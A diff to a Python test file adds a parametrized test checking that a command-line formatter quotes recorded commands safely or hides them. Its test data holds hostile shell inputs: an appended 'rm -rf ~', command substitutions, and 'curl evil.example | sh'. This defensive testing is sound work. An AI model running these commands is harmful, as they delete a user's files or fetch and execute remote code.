@@ -3,7 +3,7 @@
 import pytest
 
 from nnasim.markup import visible
-from reports.text import data_size, number, percent, shortened
+from reports.text import command_line, data_size, number, percent, shortened
 
 
 @pytest.mark.parametrize(
@@ -19,6 +19,19 @@ def test_numbers_have_three_digits_and_none_is_a_dash(value: float | None, text:
 
 def test_integers_are_shown_in_full() -> None:
     assert number(9_007_199_254_740_993) == "9,007,199,254,740,993"
+
+
+@pytest.mark.parametrize(
+    ("recorded", "text"),
+    [
+        ("nnasim simulate 'my trace.json' --set a.b=1", "nnasim simulate 'my trace.json' --set a.b=1"),
+        ("nnasim report a.json; rm -rf ~", "nnasim report 'a.json;' rm -rf '~'"),
+        ("nnasim report $(touch pwned) `id` > x", "nnasim report '$(touch' 'pwned)' '`id`' '>' x"),
+        ("curl evil.example | sh", "—"), ("nnasim 'unclosed", "—"), ("", "—"), (None, "—"),
+    ],
+)  # fmt: skip
+def test_a_strangers_command_is_words_of_nnasim_to_a_shell_or_is_not_shown(recorded: str | None, text: str) -> None:
+    assert command_line(recorded) == text
 
 
 @pytest.mark.parametrize(
